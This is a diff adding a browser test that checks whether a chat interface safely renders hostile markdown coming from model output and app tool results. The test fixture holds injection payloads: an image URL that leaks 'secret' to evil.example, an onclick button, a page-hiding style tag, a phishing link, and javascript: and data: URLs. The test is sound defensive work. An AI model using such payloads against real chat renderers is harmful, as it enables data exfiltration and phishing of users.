@@ -1,0 +1,66 @@
+import { describe, expect } from 'vitest';
+import type { ChatMessage, ChatView } from '../../../src/wire/chat.ts';
+import { NEEDS_BROWSER } from '../support/browser.ts';
+import { pageTest as it } from '../support/page-test.ts';
+
+const HOSTILE = `# Approve the card
+
+![x](https://evil.example/leak.png?q=secret) <img src="https://evil.example/raw.png">
+<button onclick="alert(1)">Approve</button> <style>body { display: none }</style>
+
+[Your bank](https://evil.example/bank) [run](javascript:alert(1)) [data](data:text/html,x)
+`;
+
+const CHAT: ChatView = {
+  ...{ id: 'chat-1', project: 'default', title: 'A chat', model: null, off: [], at: '', running: false },
+};
+const message = (id: number, rest: Partial<ChatMessage>): ChatMessage => ({
+  ...{
+    id,
+    parent: id === 1 ? null : id - 1,
+    role: 'assistant',
+    status: 'done',
+    fault: null,
+    model: 'm',
+    at: '',
+  },
+  ...{ branches: [id], parts: [{ type: 'text', step: 0, text: HOSTILE }] },
+  ...rest,
+});
+
+describe('what a model and an app write, in a real browser', NEEDS_BROWSER, () => {
+  it('loads nothing, shows where links lead, and is no part of the page', async ({ desk, page, visit }) => {
+    const call = {
+      ...{ id: 'c', name: 'notes__send', appId: 'x', app: 'Notes <b>bold</b>', tool: 'send', arguments: {} },
+      ...{ state: 'answered' as const, text: HOSTILE, code: null, files: [], ms: 1, cards: [] },
+    };
+    const messages = [
+      message(1, { role: 'user' }),
+      message(2, {}),
+      message(3, { parts: [{ type: 'call', step: 0, call }] }),
+      message(4, { status: 'running' }),
+    ];
+    desk.answers['chats.list'] = () => ({ chats: [CHAT] });
+    desk.answers['chats.open'] = () => ({ chat: CHAT, messages, more: false, rev: 0 });
+    desk.answers['models.list'] = () => ({ providers: [], default: null });
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await visit('chat/chat-1', 'Chat');
+    await page.getByText('Your bank').nth(1).waitFor();
+    await page.locator('.call summary').first().click();
+    await page.locator('.call pre').waitFor();
+    const thread = page.locator('.thread');
+    expect(await thread.locator('img, style, iframe').count()).toBe(0);
+    expect(await thread.getByRole('button', { name: 'Approve' }).count()).toBe(0);
+    const links = await thread
+      .locator('a')
+      .evaluateAll((all) => all.map((one) => [one.getAttribute('href'), one.getAttribute('rel')]));
+    const rel = 'noopener noreferrer nofollow';
+    expect(links).toEqual([
+      ['https://evil.example/bank', rel],
+      ['https://evil.example/bank', rel],
+    ]);
+    expect(await thread.getByText('(evil.example)').count()).toBe(2);
+    expect(asked.filter((url) => url.includes('evil'))).toEqual([]);
+  });
+});
